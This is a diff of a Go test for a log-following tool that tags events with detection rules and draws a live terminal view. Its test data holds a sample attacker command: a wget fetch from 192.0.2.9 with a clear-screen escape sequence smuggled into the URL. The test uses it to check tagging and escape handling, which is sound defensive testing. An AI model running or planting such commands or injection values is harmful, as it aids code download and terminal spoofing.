@@ -1,15 +1,12 @@
 package main
 
 import (
-	"bytes"
 	"context"
 	"io"
 	"os"
 	"path/filepath"
 	"strings"
-	"sync"
 	"testing"
-	"time"
 
 	"github.com/creack/pty"
 )
@@ -44,7 +41,7 @@ func TestLiveFollow(t *testing.T) {
 		if err := pty.Setsize(keys, &pty.Winsize{Rows: 24, Cols: 80}); err != nil {
 			t.Fatal(err)
 		}
-		shown := &growing{}
+		shown := &screen{}
 		read := make(chan error)
 		go func() { _, err := io.Copy(shown, keys); read <- err }()
 		ctx, cancel := context.WithCancel(context.Background())
@@ -54,9 +51,9 @@ func TestLiveFollow(t *testing.T) {
 		go func() {
 			done <- execute(ctx, s, append([]string{"--db", "none", "--color", "never", "--rules", rules, "tag", "--follow", log}, tt.args...))
 		}()
-		shown.await(t, "192.0.2.9/x")
+		shown.wait(t, "192.0.2.9/x", 1)
 		write(event("c2", `wget http://192.0.2.9/\u001b[2Jsecond`))
-		shown.await(t, "second")
+		shown.wait(t, "second", 1)
 		cancel()
 		<-done
 		tty.Close()
@@ -64,13 +61,13 @@ func TestLiveFollow(t *testing.T) {
 		keys.Close()
 		text := shown.String()
 		_, live, entered := strings.Cut(text, "\x1b[?1049h")
-		screen, after, left := strings.Cut(live, "\x1b[?1049l")
+		drawn, after, left := strings.Cut(live, "\x1b[?1049l")
 		if entered != tt.live || left != tt.live {
 			t.Errorf("%v: the screen was opened %v and closed %v, want %v", tt.args, entered, left, tt.live)
 		}
 		switch {
-		case tt.live && (!strings.Contains(screen, "T1105") || !strings.Contains(screen, "LAST HITS") || strings.Contains(screen, "/\x1b[2J")):
-			t.Errorf("the screen showed %q", screen)
+		case tt.live && (!strings.Contains(drawn, "T1105") || !strings.Contains(drawn, "LAST HITS") || strings.Contains(drawn, "/\x1b[2J")):
+			t.Errorf("the screen showed %q", drawn)
 		case tt.live && !strings.Contains(after, "1 technique in 2 tags"):
 			t.Errorf("behind the screen stands %q, want the table", after)
 		case !tt.live && strings.Count(text, `"rule_id":"R0012"`) != 2:
@@ -91,31 +88,4 @@ func ruleDir(t *testing.T) string {
 		t.Fatal(err)
 	}
 	return dir
-}
-
-// A growing is what was written so far.
-type growing struct {
-	mu sync.Mutex
-	b  bytes.Buffer
-}
-
-func (g *growing) Write(p []byte) (int, error) {
-	g.mu.Lock()
-	defer g.mu.Unlock()
-	return g.b.Write(p)
-}
-
-func (g *growing) String() string {
-	g.mu.Lock()
-	defer g.mu.Unlock()
-	return g.b.String()
-}
-
-func (g *growing) await(t *testing.T, text string) {
-	t.Helper()
-	for end := time.Now().Add(30 * time.Second); !strings.Contains(g.String(), text); time.Sleep(10 * time.Millisecond) {
-		if time.Now().After(end) {
-			t.Fatalf("waited in vain for %q, there is %q", text, g.String())
-		}
-	}
 }
